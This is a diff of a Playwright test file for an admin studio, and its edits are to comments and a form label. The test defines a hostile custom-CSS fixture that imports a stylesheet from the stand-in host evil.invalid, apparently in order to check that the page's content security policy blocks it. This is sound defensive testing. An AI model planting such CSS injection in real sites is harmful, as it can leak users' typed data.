@@ -1,7 +1,7 @@
 import { expect, test } from '@playwright/test'
 import { field, people, saveAndStay, signIn } from './studio.ts'
 
-/** A style that tries everything: to bring another one, to send away what is typed, to lie over the whole page. */
+/** A hostile style: it tries to load another one, to send typed text away, and to cover the whole page. */
 const hostile = `
   @import url(https://evil.invalid/more.css);
   h1 { color: rgb(1, 2, 3) !important; }
@@ -26,7 +26,7 @@ test("a project's own style colours the studio, brings nothing along and can be 
   expect((await save(hostile)).ok()).toBe(true)
   try {
     await page.goto('/admin/login')
-    await expect(page.getByLabel('E-mail')).toBeVisible()
+    await expect(page.getByLabel('Email')).toBeVisible()
     expect(await page.evaluate(() => document.adoptedStyleSheets.length)).toBe(0)
     await signIn(page, 'admin')
     await page.goto('/admin/collections')
@@ -35,7 +35,7 @@ test("a project's own style colours the studio, brings nothing along and can be 
     await page.goto('/admin/collections?safe=1')
     await expect(page.locator('h1')).toBeVisible()
     expect(await colour()).not.toBe('rgb(1, 2, 3)')
-    // The policy of the page, not a missing network, is what ends them; the other style is not even asked for.
+    // The policy of the page blocks them, not a missing network; the other style is not even requested.
     expect(ends).toEqual(['csp'])
   } finally {
     await save(null)
@@ -51,7 +51,7 @@ test("a style that hides everything hides neither sign-in nor the project's sett
   expect((await request.patch('/settings', { data: { custom_css: hidden }, headers })).ok()).toBe(true)
   try {
     await page.goto('/admin/login')
-    await page.getByLabel('E-mail').fill(people.admin.email)
+    await page.getByLabel('Email').fill(people.admin.email)
     await page.getByLabel('Password').fill(people.admin.password)
     await page.getByRole('button', { name: 'Sign in' }).click()
     await expect(page).not.toHaveURL(/\/login/)
@@ -66,7 +66,7 @@ test("a style that hides everything hides neither sign-in nor the project's sett
     await saveAndStay(page)
     expect(await settings()).toEqual({ data: { custom_css: 'h1 { color: rgb(1, 2, 3) }' } })
     await expect(page.locator('h1')).not.toHaveCSS('color', 'rgb(1, 2, 3)')
-    // On every other page the style counts, without a reload.
+    // On every other page the style applies, without a reload.
     await page.getByRole('link', { name: 'Data model' }).click()
     await expect(page.locator('h1')).toHaveCSS('color', 'rgb(1, 2, 3)')
   } finally {
